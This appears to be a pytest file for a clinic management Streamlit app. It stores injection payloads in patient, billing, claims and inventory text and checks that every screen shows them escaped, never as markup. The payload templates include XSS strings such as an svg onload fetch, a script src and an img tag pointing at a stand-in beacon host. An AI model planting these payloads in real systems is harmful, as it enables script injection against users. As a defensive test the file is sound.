"""What people type never becomes markup, on the screens the browser test does not walk.

tests/e2e/test_typed_payloads_in_chromium.py covers Home, Today, Calendar, Inbox and the patient
file in a real browser. Here, through AppTest (cheap enough for the page suite), payloads are
stored in every text the other everyday screens show: the clinician's day sheet, the waitlist,
reminder calls, the invoice ledger and an invoice, the claims work list and a claim, and the
inventory screens (stock, items and rooms, vendors and contractors, purchase orders). Each screen
is run as the role that uses it, with the clicks that repeat typed text in a notice, and its
element tree is walked:

(a) every payload planted for that screen is shown, in a Markdown body or label, or in a table
    cell, so the check below cannot pass on an empty screen;
(b) no string Streamlit renders as Markdown (bodies, alerts, toasts, headings, widget, expander,
    tab and metric labels, tooltips, radio and button-group options) holds a payload unescaped:
    no Markdown image or link, no raw <img>/<script>/<svg>, no bare http://, www. or @ address
    without the word joiner that ``components.text.md`` puts in. Table cells are plain text.
"""

from __future__ import annotations

import re
from datetime import datetime, time, timedelta

import pandas as pd
import pytest
from google.protobuf.descriptor import FieldDescriptor

import db
from clinic import timeutil
from db import billing, claims, purchase_orders, stock_locations, vendors, waitlist
from tests.conftest import (SEED_TODAY, TZ, database, make_appointment, make_patient, make_provider,
                            make_visit_type, user_id_for)
from tests.db.inventory_factories import make_item, make_location, make_vendor, stock

BEACON = "cd-beacon.invalid"
HOST = "cd-beacon"  # what a link to the beacon names, whatever escapes sit in its dots
WORD_JOINER = "\u2060"

# Each typed text carries a word to find it by and a different mix of markup, all naming the beacon.
_FLAVOURS = (
    lambda w: f"{w} ![i](http://{BEACON}/{w}.png) www.{BEACON}",
    lambda w: f"{w} <img src=http://{BEACON}/{w}.png> desk@{BEACON}",
    lambda w: f"{w} [l](https://{BEACON}/{w}) <svg onload=fetch('//{BEACON}')>",
    lambda w: f"{w} <script src=//{BEACON}/s.js></script> http://{BEACON}/{w}",
)


def typed(word: str, flavour: int) -> str:
    return _FLAVOURS[flavour % len(_FLAVOURS)](word)


# --- reading the element tree ---------------------------------------------------------------------

# Elements whose strings are shown as plain text (or not shown): everything else is Markdown.
PLAIN_ELEMENTS = {"text", "json", "code", "exception", "arrow_data_frame", "dataframe", "table", "html"}
# Proto fields Streamlit renders as Markdown (pills and segmented controls keep their options in
# "content"). Select box and multiselect options are plain text; a radio's options are Markdown.
MARKDOWN_FIELDS = {"body", "label", "help", "title", "content", "selected_content"}
MARKDOWN_OPTIONS = {"Radio"}


def _strings(message, out: list[str]) -> None:
    for field, value in message.ListFields():
        values = value if type(value).__name__.startswith("Repeated") else [value]
        if field.type == FieldDescriptor.TYPE_MESSAGE:
            for sub in values:
                _strings(sub, out)
        elif field.type == FieldDescriptor.TYPE_STRING and (
                field.name in MARKDOWN_FIELDS
                or (field.name == "options" and message.DESCRIPTOR.name in MARKDOWN_OPTIONS)):
            out.extend(v for v in values if v)


def markdown_strings(at) -> list[tuple[str, str]]:
    """(element type, string) for every string of the page Streamlit renders as Markdown."""
    found: list[tuple[str, str]] = []
    for node in at._tree:
        proto = getattr(node, "proto", None)
        kind = getattr(node, "type", type(node).__name__)
        if proto is None or kind in PLAIN_ELEMENTS:
            continue
        strings: list[str] = []
        _strings(proto, strings)
        found.extend((kind, s) for s in strings)
    return found


def table_cells(at) -> list[str]:
    cells: list[str] = []
    for frame in at.dataframe:
        value = frame.value
        if isinstance(value, pd.DataFrame):
            cells.extend(str(c) for c in value.columns)
            cells.extend(str(v) for v in value.to_numpy().ravel())
    return cells


def as_read(markdown: str) -> str:
    """A Markdown string as the reader sees its characters: escapes resolved, word joiners dropped."""
    return re.sub(r"\\(.)", r"\1", markdown, flags=re.S).replace(WORD_JOINER, "")


# What typed text may not become in a Markdown string.
UNESCAPED = (
    (re.compile(r"(?<!\\)!\["), "a Markdown image"),
    (re.compile(r"(?<!\\)\]\("), "a Markdown link"),
    (re.compile(r"(?i)(?<!\\)<\s*/?\s*(img|script|svg|a|iframe)\b"), "raw HTML"),
)
# Checked with the escapes resolved but the word joiners kept: a live address has none.
LINKABLE = (
    (re.compile(r"(?i)\b[a-z][a-z0-9+.-]*://\S*" + re.escape(HOST)), "a bare http:// address"),
    (re.compile(r"(?i)\bwww\." + re.escape(HOST)), "a bare www. address"),
    (re.compile(r"(?i)@" + re.escape(HOST)), "a bare e-mail address"),
)


def leaks(markdown: str) -> list[str]:
    if HOST not in as_read(markdown).lower():
        return []
    resolved = re.sub(r"\\(.)", r"\1", markdown, flags=re.S)
    return ([what for pattern, what in UNESCAPED if pattern.search(markdown)]
            + [what for pattern, what in LINKABLE if pattern.search(resolved)])


def check(at, where: str, *, in_markdown=(), in_table=()) -> None:
    """(a) each of ``in_markdown`` is shown through Markdown and each of ``in_table`` in a table
    cell or through Markdown; (b) no Markdown string holds typed text unescaped."""
    assert not at.exception, f"{where}: {at.exception}"
    strings = markdown_strings(at)
    read = [as_read(s) for _kind, s in strings]
    cells = table_cells(at)
    for text in in_markdown:
        assert any(text in r for r in read), f"{where}: {text!r} is not shown"
    for text in in_table:
        assert any(text in r for r in read) or any(text in c for c in cells), f"{where}: {text!r} is not shown"
    bad = [(kind, s, found) for kind, s in strings if (found := leaks(s))]
    assert not bad, f"{where}: typed text became markup: {bad}"


def open_page(signed_in, role: str, page: str, **state):
    at = signed_in(role).run()
    for key, value in state.items():
        at.session_state[key] = value
    at.switch_page(page).run()
    assert not at.exception, at.exception
    return at


def local(day, hour: int, minute: int = 0):
    return timeutil.local_to_utc(datetime.combine(day, time(hour, minute)), TZ)


def first_button(at, prefix: str):
    return next(b for b in at.button if b.key and b.key.startswith(prefix))


# --- the screens ----------------------------------------------------------------------------------


def day_sheet(signed_in, path) -> None:
    """The clinician's own day: their provider's name (heading), a patient, the visit's reason and
    the allergies (table)."""
    provider_name, patient, reason, allergies = (typed("Zqprovider", 0), typed("Zqpatient", 1),
                                                 typed("Zqreason", 2), typed("Zqallergy", 3))
    with database(path) as conn:
        from db import providers

        provider_id = providers.for_user(conn, user_id_for(path, "doctor")).id
        conn.execute("UPDATE providers SET name = ? WHERE id = ?", [provider_name, provider_id])
        patient_id = make_patient(conn, first_name="Ann", last_name=patient)
        conn.execute("UPDATE patients SET allergies = ? WHERE id = ?", [allergies, patient_id])
        type_id = db.read(conn, "SELECT min(id) FROM visit_types WHERE active")[0][0]
        make_appointment(conn, patient_id=patient_id, provider_id=provider_id, type_id=type_id,
                         start_at=local(SEED_TODAY, 11, 50), reason=reason)
    at = open_page(signed_in, "clinician", "pages/day_sheet.py")
    assert at.selectbox(key="day_sheet_provider").value == provider_id
    check(at, "day sheet", in_markdown=[provider_name], in_table=[patient, reason, allergies])


def waitlist_screen(signed_in, path) -> None:
    """An entry (patient, visit type, provider, note) and its offers; booking one says "Booked …"."""
    patient, type_name, provider_name, note = (typed("Zqwaiting", 0), typed("Zqvisit", 1), typed("Zqdoctor", 2),
                                               typed("Zqnote", 3))
    with database(path) as conn:
        provider_id = make_provider(conn, name=provider_name)
        type_id = make_visit_type(conn, name=type_name)
        patient_id = make_patient(conn, first_name="Ann", last_name=patient)
        entry_id = waitlist.add(conn, patient_id=patient_id, type_id=type_id, provider_id=provider_id,
                                preferred_days=None, note=note, by="test")
    at = open_page(signed_in, "front_desk", "pages/waitlist.py", waitlist_entry=entry_id)
    check(at, "waitlist", in_markdown=[patient, type_name, provider_name, note])
    first_button(at, f"offer_{entry_id}_").click().run()
    check(at, "waitlist, booked", in_markdown=[f"Booked {patient}, Ann with {provider_name}"])


def reminders_screen(signed_in, path) -> None:
    """The reminder day of one provider: the patient, visit type, provider and clinic name; the
    opted-out patient's table; confirming the call says so in a toast."""
    patient, type_name, provider_name, clinic, opted_out = (typed("Zqcaller", 0), typed("Zqkind", 1),
                                                            typed("Zqdoc", 2), typed("Zqclinic", 3),
                                                            typed("Zqoptout", 0))
    tuesday = SEED_TODAY + timedelta(days=1)
    with database(path) as conn:
        conn.execute("UPDATE settings SET value = ? WHERE key = 'clinic_name'", [clinic])
        provider_id = make_provider(conn, name=provider_name)
        type_id = make_visit_type(conn, name=type_name)
        patient_id = make_patient(conn, first_name="Ann", last_name=patient)
        appointment_id = make_appointment(conn, patient_id=patient_id, provider_id=provider_id, type_id=type_id,
                                          start_at=local(tuesday, 9))
        quiet = make_patient(conn, first_name="Ann", last_name=opted_out, reminder_opt_in=False)
        make_appointment(conn, patient_id=quiet, provider_id=provider_id, type_id=type_id, start_at=local(tuesday, 10))
    at = open_page(signed_in, "front_desk", "pages/reminders.py", reminders_day=tuesday,
                   reminders_provider=provider_id)
    check(at, "reminder calls", in_markdown=[patient, type_name, provider_name, clinic], in_table=[opted_out])
    at.button(key=f"reminder_confirmed_{appointment_id}").click().run()
    assert at.toast, "no toast after recording the call"
    check(at, "reminder calls, confirmed", in_markdown=[f"{patient}, Ann: confirmed"])


def insured_patient(conn, patient: str, payer: str, member: str, group: str) -> int:
    payer_id = db.read(conn, "SELECT id FROM payers WHERE kind = 'commercial' ORDER BY id LIMIT 1")[0][0]
    from db import payers

    payers.save(conn, name=payer, payer_code="ZQ1", kind="commercial", by="test", payer_id=payer_id)
    patient_id = make_patient(conn, first_name="Ann", last_name=patient)
    conn.execute("INSERT INTO patient_insurance (patient_id, rank, payer_id, member_id, group_number)"
                 " VALUES (?, 1, ?, ?, ?)", [patient_id, payer_id, member, group])
    return patient_id


def finalised_invoice(conn, patient_id: int, description: str, provider_id: int | None = None) -> int:
    invoice_id = billing.create_invoice(conn, patient_id=patient_id, service_date=SEED_TODAY - timedelta(days=10),
                                        user="test", provider_id=provider_id)
    billing.add_line(conn, invoice_id, code="99213", description=description, unit_price="120.00",
                     version=billing.get(conn, invoice_id).version, user="test", diagnoses=["I10"])
    billing.finalize_invoice(conn, invoice_id, user="test")
    return invoice_id


def invoices_screen(signed_in, path) -> None:
    """The ledger (patient in the table), an invoice (patient, provider, line), making its claim
    (the notice names the payer) and a void invoice's reason."""
    patient, payer, line, reason, provider_name = (typed("Zqbilled", 0), typed("Zqpayer", 1), typed("Zqline", 2),
                                                   typed("Zqvoid", 3), typed("Zqphysician", 1))
    with database(path) as conn:
        provider_id = make_provider(conn, name=provider_name)
        patient_id = insured_patient(conn, patient, payer, "ZQ123456", "G-1")
        open_id = finalised_invoice(conn, patient_id, line, provider_id)
        void_id = finalised_invoice(conn, patient_id, "Office visit")
        billing.void_invoice(conn, void_id, reason=reason, user="test")
    at = open_page(signed_in, "billing", "pages/invoices.py")
    check(at, "invoice ledger", in_table=[patient])
    at.number_input(key="inv_open_no").set_value(open_id).run()
    check(at, "an invoice", in_markdown=[patient, provider_name, line])
    at.button(key=f"inv{open_id}_claim_make").click().run()
    check(at, "an invoice, claim made", in_markdown=[f"to {payer} made from invoice {open_id}"])
    at.number_input(key="inv_open_no").set_value(void_id).run()
    check(at, "a void invoice", in_markdown=[reason])


def claims_screen(signed_in, path) -> None:
    """The work list (patient, payer), and a claim appealed after a denial: who it bills (patient,
    payer, member and group), its line, the notes in its history, and the answer form's line."""
    patient, payer, member, group, line, denied, appeal = (
        typed("Zqinsured", 0), typed("Zqinsurer", 1), typed("Zqmember", 1), typed("Zqgroup", 3),
        typed("Zqservice", 2), typed("Zqdenied", 3), typed("Zqappeal", 0))
    with database(path) as conn:
        patient_id = insured_patient(conn, patient, payer, member, group)
        claim_id = billing.create_claim(conn, finalised_invoice(conn, patient_id, line), user="test")
        billing.submit_claim(conn, claim_id, user="test")
        claims.change_claim_status(conn, claim_id, "denied", user="test", note=denied)
        claims.change_claim_status(conn, claim_id, "appealed", user="test", note=appeal)
    at = open_page(signed_in, "billing", "pages/claims.py")
    check(at, "claims work list", in_table=[patient, payer])
    at.selectbox(key="claims_pick").select(claim_id).run()
    check(at, "a claim", in_markdown=[patient, payer, member, group, denied, appeal, f"99213 · {line}"],
          in_table=[line])


def inventory_scene(path) -> dict:
    """A vendor with a minimum order, a lot-tracked item with an expired lot, an item that is low,
    a room with a par level for it, a contractor due for renewal, and a draft order."""
    t = {"vendor": typed("Zqvendor", 0), "account": typed("Zqaccount", 1), "item": typed("Zqgauze", 2),
         "unit": f"bx ![u](http://{BEACON})", "vaccine": typed("Zqvaccine", 3), "lot": f"L<img src=//{BEACON}>",
         "room": typed("Zqroom", 1), "contractor": typed("Zqcleaner", 0), "service": typed("Zqservice", 2),
         "po_note": typed("Zqponote", 3)}
    with database(path) as conn:
        vendor_id = make_vendor(conn, name=t["vendor"], account_number=t["account"], minimum_order=500)
        item_id = make_item(conn, sku="ZQ-GAUZE", name=t["item"], unit=t["unit"], reorder_point=50,
                            vendor_id=vendor_id)
        vaccine_id = make_item(conn, sku="ZQ-VAX", name=t["vaccine"], category="vaccine", unit="dose",
                               lot_tracked=True, reorder_point=1, vendor_id=vendor_id)
        stock(conn, item_id, 20)
        lot_id = stock(conn, vaccine_id, 3, lot_number=t["lot"], expires_on=SEED_TODAY - timedelta(days=3))
        room_id = make_location(conn, name=t["room"])
        stock_locations.set_par_levels(conn, room_id, {item_id: 5}, user="test")
        vendors.save_contractor(conn, {"name": t["contractor"], "service": t["service"],
                                       "contract_start": SEED_TODAY - timedelta(days=300),
                                       "contract_end": SEED_TODAY + timedelta(days=20)}, user="test")
        po_id = purchase_orders.create_order(conn, vendor_id=vendor_id, lines=[(item_id, 5, None)], user="test",
                                             note=t["po_note"])
        storeroom = db.read(conn, "SELECT id FROM stock_locations WHERE kind = 'storeroom'")[0][0]
    return {**t, "item_id": item_id, "lot_id": lot_id, "storeroom": storeroom, "po_id": po_id}


def stock_screen(signed_in, path) -> None:
    """Stock (tables, the expired lot), Receive and Use of the item (its unit in the labels), Restock
    (the room); writing off the lot and recording use repeat the names in notices."""
    s = inventory_scene(path)
    at = open_page(signed_in, "front_desk", "pages/inventory.py", stk_recv_item_id=s["item_id"],
                   stk_use_item_id=s["item_id"], stk_move_item_id=s["item_id"])
    check(at, "stock", in_markdown=[s["vaccine"], s["lot"], s["room"], f"Quantity ({s['unit']})",
                                    f"{s['item']} is not tracked by lot"],
          in_table=[s["item"], s["vendor"], s["room"]])
    at.button(key=f"stk_writeoff_{s['lot_id']}_{s['storeroom']}").click().run()
    check(at, "stock, written off", in_markdown=[f"of {s['vaccine']} (lot {s['lot']})"])
    at.text_input(key="stk_use_quantity").input("1")
    at.button(key="stk_use_save").click().run()
    check(at, "stock, used", in_markdown=[f"Recorded 1 of {s['item']} used", f"× {s['unit']}"])


def inventory_lists(signed_in, path) -> None:
    """Items and rooms, vendors and contractors (the renewal notice), and the draft order opened
    (vendor, account, note, line, the under-minimum warning)."""
    s = inventory_scene(path)
    at = open_page(signed_in, "manager", "pages/stock_items.py")
    check(at, "items and rooms", in_table=[s["item"], s["room"]])
    at.switch_page("pages/vendors.py").run()
    check(at, "vendors", in_markdown=[s["contractor"], s["service"]], in_table=[s["vendor"]])
    at.session_state["po_open"] = s["po_id"]
    at.switch_page("pages/purchase_orders.py").run()
    check(at, "a purchase order", in_markdown=[s["vendor"], s["account"], s["po_note"], s["item"], s["unit"],
                                               f"under {s['vendor']}'s minimum"])


SCREENS = {
    "day_sheet": day_sheet,
    "waitlist": waitlist_screen,
    "reminders": reminders_screen,
    "invoices": invoices_screen,
    "claims": claims_screen,
    "stock": stock_screen,
    "inventory_lists": inventory_lists,
}


@pytest.mark.parametrize("screen", list(SCREENS))
def test_typed_text_is_shown_as_typed_and_never_as_markup(screen, signed_in, app_env):
    SCREENS[screen](signed_in, app_env)
